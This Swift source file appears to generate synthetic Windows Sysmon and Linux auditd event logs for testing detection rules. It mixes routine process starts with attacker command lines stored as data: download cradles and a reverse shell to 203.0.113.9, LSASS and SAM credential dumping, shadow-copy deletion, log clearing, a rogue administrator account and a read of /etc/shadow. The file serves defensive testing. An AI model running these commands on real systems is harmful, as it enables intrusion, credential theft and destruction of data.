import Glibc

/// JSON events of about 640 bytes, one a line, the same in every run: what a collector of Windows
/// and Linux hosts writes.
///
/// Starts of processes on Windows; in a mixed log they are half of it, the rest are programs run on
/// Linux, connections, files and registry values. Programs, folders and switches are those that
/// rules look for too (`cmd.exe`, `powershell.exe`, `/usr/bin/find`), so that every line holds some
/// of the rules' words. Few: one event in two hundred is an attacker's. Many: three in five are.
struct EventLog {
  enum Kind { case few, many }

  var kind: Kind
  var isMixed: Bool
  var lines: Int
  private var random = SplitMix(state: 0x6576_656e_7473)
  private var text = LineText(form: .dated)

  init(kind: Kind, isMixed: Bool, lines: Int) {
    self.kind = kind
    self.isMixed = isMixed
    self.lines = lines
  }

  /// Bytes gathered before they are written.
  private static let writeBytes = 1 << 20

  /// Writes the log to `path` and returns its size in bytes.
  func write(to path: String) throws -> Int {
    var log = self
    let output = try LogFile(path)
    for _ in 0..<lines {
      log.next()
      if log.text.bytes.count >= Self.writeBytes { try output.write(&log.text.bytes) }
    }
    try output.write(&log.text.bytes)
    return output.size
  }

  private mutating func next() {
    text.time += Int64(random.below(40_000))
    let isAttack = random.below(1000) < (kind == .few ? 5 : 600)
    switch isMixed ? random.below(100) : 0 {
    case ..<50: windows(isAttack ? Self.attacks : Self.work)
    case ..<75: linux(isAttack ? Self.linuxAttacks : Self.linuxWork)
    case ..<85: connection()
    case ..<93: file()
    default: registry()
    }
    text.append("}\n")
  }

  /// A program's start: folder, name, command line, parent's folder and name.
  private struct Start {
    var image: String
    var arguments: String
    var parent: String
    var company: String

    init(_ image: String, _ arguments: String, by parent: String, _ company: String = "Microsoft") {
      (self.image, self.arguments) = (image, arguments)
      (self.parent, self.company) = (parent, company)
    }
  }
}

/// The shapes of events.
extension EventLog {
  private mutating func begin(_ host: String, _ id: Int, _ channel: String) {
    text.append("{\"@timestamp\":\"")
    text.appendTime()
    text.append("\",\"Computer\":\"\(host)\",\"EventID\":\(id),\"Channel\":\"\(channel)\"")
  }

  private mutating func add(_ name: String, _ value: String) {
    text.append(",\"\(name)\":\"")
    for byte in value.utf8 {
      if byte == 0x5c || byte == 0x22 { text.bytes.append(0x5c) }
      text.bytes.append(byte)
    }
    text.append("\"")
  }

  private mutating func beginWindows(_ id: Int) {
    begin(
      "ws-\(random.below(400)).corp.example", id, "Microsoft-Windows-Sysmon/Operational")
    add("ProcessGuid", "{\(hex(8))-\(hex(4))-\(hex(4))-\(hex(12))}")
    text.append(",\"ProcessId\":\(1000 + random.below(20_000))")
  }

  private mutating func windows(_ starts: [Start]) {
    let start = starts[random.below(starts.count)]
    beginWindows(1)
    let name = String(start.image.split(separator: "\\").last ?? "")
    add("Image", start.image)
    add("OriginalFileName", name)
    add("Company", start.company == "Microsoft" ? "Microsoft Corporation" : start.company)
    let quoted = start.image.contains(" ") ? "\"\(start.image)\"" : start.image
    add("CommandLine", quoted + (start.arguments.isEmpty ? "" : " ") + filled(start.arguments))
    add("CurrentDirectory", "C:\\Users\\\(person())\\")
    add("User", "CORP\\\(person())")
    add("IntegrityLevel", ["Medium", "High", "System"][random.below(3)])
    add("Hashes", "SHA256=" + hex(32).uppercased())
    add("ParentImage", start.parent)
    add("ParentCommandLine", start.parent)
  }

  private mutating func linux(_ starts: [Start]) {
    let start = starts[random.below(starts.count)]
    begin("web\(random.below(60)).corp.example", 59, "auditd")
    add("type", "EXECVE")
    text.append(",\"serial\":\(random.below(9_000_000)),\"pid\":\(random.below(60_000))")
    add("exe", start.image)
    add("comm", String(start.image.split(separator: "/").last ?? ""))
    add("cmdline", start.image + " " + filled(start.arguments))
    for (number, word) in filled(start.arguments).split(separator: " ").prefix(6).enumerated() {
      add("a\(number + 1)", String(word))
    }
    add("cwd", "/home/\(person())")
    add("auid", person())
    add("uid", person())
    add("subj", "unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023")
    add("parent", start.parent)
    add("distribution", "Debian GNU/Linux 12, kernel 6.1.0-\(random.below(40))-amd64")
    add("collector", "session=\(hex(48)),policy=corporate-default")
  }

  private mutating func connection() {
    beginWindows(3)
    add("Image", Self.speakers[random.below(Self.speakers.count)])
    add("User", "CORP\\\(person())")
    add("Protocol", "tcp")
    text.append(",\"Initiated\":true")
    add("SourceIp", "192.168.\(random.below(250)).\(1 + random.below(250))")
    text.append(",\"SourcePort\":\(49_152 + random.below(16_000))")
    add("SourceHostname", "ws-\(random.below(400)).corp.example")
    add("DestinationIp", "203.0.113.\(1 + random.below(250))")
    add("DestinationHostname", Self.hosts[random.below(Self.hosts.count)])
    text.append(",\"DestinationPort\":\([443, 443, 443, 80, 445, 53][random.below(6)])")
    add("RuleName", "technique=none,session=\(hex(16)),policy=corporate-default-outbound")
  }

  private mutating func file() {
    beginWindows(11)
    let start = Self.work[random.below(Self.work.count)]
    add("Image", start.image)
    add("User", "CORP\\\(person())")
    let name = ["report.txt", "cache.dat", "setup.log", "index.tmp", "photo.png", "form.pdf"]
    add(
      "TargetFilename",
      "C:\\Users\\\(person())\\AppData\\Local\\Temp\\\(hex(8))\\\(name[random.below(6)])")
    add("CreationUtcTime", "2026-05-11 06:20:\(10 + random.below(50)).\(100 + random.below(900))")
    add("RuleName", "technique=none,session=\(hex(32)),policy=corporate-default-files")
    add("ParentImage", start.parent)
  }

  private mutating func registry() {
    beginWindows(13)
    let start = Self.work[random.below(Self.work.count)]
    add("EventType", "SetValue")
    add("Image", start.image)
    add("User", "CORP\\\(person())")
    add(
      "TargetObject",
      "HKU\\S-1-5-21-\(random.below(900_000))\\Software\\Microsoft\\Windows\\CurrentVersion\\"
        + ["Explorer\\RecentDocs", "Search\\JumplistData", "Uninstall\\Viewer"][random.below(3)])
    add("Details", "DWORD (0x\(hex(8)))")
    add("RuleName", "technique=none,session=\(hex(32)),policy=corporate-default-registry")
  }

  /// `#` stands for a number.
  private mutating func filled(_ pattern: String) -> String {
    guard pattern.utf8.contains(0x23) else { return pattern }
    return pattern.split(separator: "#", omittingEmptySubsequences: false)
      .joined(separator: String(10_000 + random.below(90_000)))
  }

  private mutating func person() -> String {
    ["mira", "jonas", "deniz", "anouk", "svc_backup", "katrin", "otto"][random.below(7)]
  }

  private mutating func hex(_ digits: Int) -> String {
    var text = ""
    while text.utf8.count < digits { text += String(random.next() >> 32 | 1 << 31, radix: 16) }
    return String(text.prefix(digits))
  }
}

/// Who starts what.
extension EventLog {
  private static let system = "C:\\Windows\\System32\\"
  private static let services = system + "services.exe"
  private static let explorer = "C:\\Windows\\explorer.exe"
  private static let prompt = system + "cmd.exe"
  private static let shell = system + "WindowsPowerShell\\v1.0\\powershell.exe"
  private static let speakers = [
    system + "svchost.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Program Files\\Git\\cmd\\git.exe", "C:\\ProgramData\\Endpoint\\Agent\\agent.exe",
  ]
  private static let hosts = [
    "update.example.com", "mail.corp.example", "cdn.example.net", "files.corp.example",
    "login.example.org",
  ]

  private static let work = [
    Start(system + "svchost.exe", "-k netsvcs -p -s Schedule", by: services),
    Start(system + "svchost.exe", "-k LocalService -p -s BthAvctpSvc", by: services),
    Start(system + "conhost.exe", "0xffffffff -ForceV1", by: prompt),
    Start(system + "taskhostw.exe", "", by: system + "svchost.exe"),
    Start(
      system + "backgroundTaskHost.exe", "-ServerName:App.AppX#.mca", by: system + "svchost.exe"),
    Start(system + "RuntimeBroker.exe", "-Embedding", by: system + "svchost.exe"),
    Start(system + "dllhost.exe", "/Processid:{3EB3C877-1F16-487C-#}", by: system + "svchost.exe"),
    Start(system + "SearchIndexer.exe", "/Embedding", by: services),
    Start(prompt, "/c \"D:\\build\\agent\\run.cmd\" --job # --quiet", by: "C:\\agent\\runner.exe"),
    Start(prompt, "/c dir D:\\share\\orders\\#", by: explorer),
    Start(shell, "-NoProfile -File D:\\ops\\inventory.ps1 -Site #", by: explorer),
    Start(system + "ipconfig.exe", "/displaydns", by: prompt),
    Start(system + "charmap.exe", "/session #", by: explorer),
    Start(system + "msiexec.exe", "/V", by: services),
    Start(
      "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
      "--type=renderer --lang=de --renderer-client-id=# --mojo-platform-channel-handle=#",
      by: "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "Google LLC"),
    Start(
      "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "/recycle", by: explorer),
    Start(
      "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
      "/n \"D:\\share\\contract #.docx\"", by: explorer),
    Start("C:\\Program Files\\Git\\cmd\\git.exe", "fetch --depth # origin main", by: prompt, "Git"),
    Start(
      "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "-contentproc #", by: explorer, "Mozilla"),
    Start("C:\\Program Files\\Python312\\python.exe", "-m pytest tests\\#", by: prompt, "Python"),
    Start(
      "C:\\Program Files\\7-Zip\\7zG.exe", "a D:\\archive\\#.zip D:\\orders", by: explorer, "7-Zip"),
    Start(
      "C:\\ProgramData\\Endpoint\\Agent\\agent.exe", "--collect --interval #", by: services,
      "Endpoint AG"),
  ]

  private static let attacks = [
    Start(shell, "-nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAg#", by: prompt),
    Start(
      system + "certutil.exe", "-urlcache -split -f http://203.0.113.9/#.exe a.exe", by: prompt),
    Start(system + "vssadmin.exe", "delete shadows /all /quiet", by: prompt),
    Start(system + "net.exe", "user helper# P4ssw0rd! /add", by: prompt),
    Start(system + "net1.exe", "localgroup administrators helper# /add", by: prompt),
    Start(system + "reg.exe", "save hklm\\sam C:\\Windows\\Temp\\#.hiv", by: prompt),
    Start(
      system + "rundll32.exe", "C:\\Windows\\System32\\comsvcs.dll, MiniDump # lsass.dmp full",
      by: shell),
    Start(
      system + "schtasks.exe", "/create /sc minute /tn upd# /tr C:\\Users\\Public\\u.exe",
      by: prompt),
    Start(system + "whoami.exe", "/all", by: prompt),
    Start(system + "nltest.exe", "/domain_trusts", by: prompt),
    Start(system + "wevtutil.exe", "cl Security", by: prompt),
    Start(
      system + "bitsadmin.exe", "/transfer j# http://203.0.113.9/p.exe C:\\Temp\\p.exe", by: prompt),
    Start(
      prompt, "/c powershell iex(New-Object Net.WebClient).DownloadString('http://203.0.113.9/#')",
      by: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
    Start(system + "mshta.exe", "http://203.0.113.9/#.hta", by: explorer),
  ]

  private static let linuxWork = [
    Start("/usr/bin/grep", "-c error /var/log/shop/#.log", by: "/usr/bin/bash"),
    Start("/usr/bin/ls", "-la /srv/data/#", by: "/usr/bin/bash"),
    Start("/usr/bin/python3", "/opt/shop/worker.py --queue #", by: "/usr/lib/systemd/systemd"),
    Start("/usr/sbin/cron", "-f", by: "/usr/lib/systemd/systemd"),
    Start("/usr/bin/find", "/srv/cache -name *.tmp -mtime +#", by: "/usr/bin/dash"),
    Start("/usr/bin/date", "+%s", by: "/usr/bin/dash"),
    Start("/usr/bin/sed", "s/old#/new/ /srv/app/settings.ini", by: "/usr/bin/bash"),
    Start("/usr/sbin/nginx", "-g daemon", by: "/usr/lib/systemd/systemd"),
  ]

  private static let linuxAttacks = [
    Start("/usr/bin/bash", "-c bash -i >& /dev/tcp/203.0.113.9/# 0>&1", by: "/usr/sbin/apache2"),
    Start("/usr/bin/base64", "-d /tmp/.#", by: "/usr/bin/bash"),
    Start("/usr/bin/wget", "http://203.0.113.9/x# -O /tmp/x", by: "/usr/bin/bash"),
    Start("/usr/bin/chmod", "777 /tmp/x#", by: "/usr/bin/bash"),
    Start("/usr/bin/cat", "/etc/shadow", by: "/usr/bin/bash"),
    Start("/usr/bin/nohup", "/tmp/x --threads #", by: "/usr/bin/bash"),
  ]
}
